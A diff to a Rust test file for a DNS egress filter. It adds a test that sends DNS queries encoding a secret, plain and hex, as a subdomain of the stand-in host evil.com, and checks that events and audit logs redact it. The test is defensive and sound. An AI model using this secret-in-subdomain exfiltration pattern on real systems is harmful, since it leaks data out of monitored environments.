@@ -1,6 +1,6 @@
 //! What a worker's DNS answers.
 
-use crate::harness::{FIRST, Harness, PATIENCE, Setup, question};
+use crate::harness::{FIRST, Harness, PATIENCE, SECRET, Setup, question};
 use caisson_egress::{EgressEvent, QueryRate};
 use hickory_proto::op::{Message, ResponseCode};
 use hickory_proto::rr::{RData, RecordType};
@@ -305,4 +305,21 @@ async fn noise_on_the_socket_harms_nothing() {
         }
     }
     assert_eq!(last.expect("an answer").answers.len(), 1);
+}
+
+#[tokio::test]
+async fn a_secret_in_a_name_reaches_neither_events_nor_the_audit_log() {
+    let mut harness = Setup::new(RULE).open();
+    let hex = "536573616d652d4f70656e2d3232";
+    for name in [SECRET, hex] {
+        harness
+            .ask(&format!("{name}.evil.com"), RecordType::A)
+            .await;
+        let event = format!("{:?}", harness.event().await).to_lowercase();
+        assert!(event.contains("[redacted].evil.com"), "{event}");
+        assert!(!event.contains("sesame") && !event.contains(hex), "{event}");
+    }
+    let lines = format!("{:?}", harness.audit_lines()).to_lowercase();
+    assert!(lines.contains("[redacted].evil.com"), "{lines}");
+    assert!(!lines.contains("sesame") && !lines.contains(hex), "{lines}");
 }
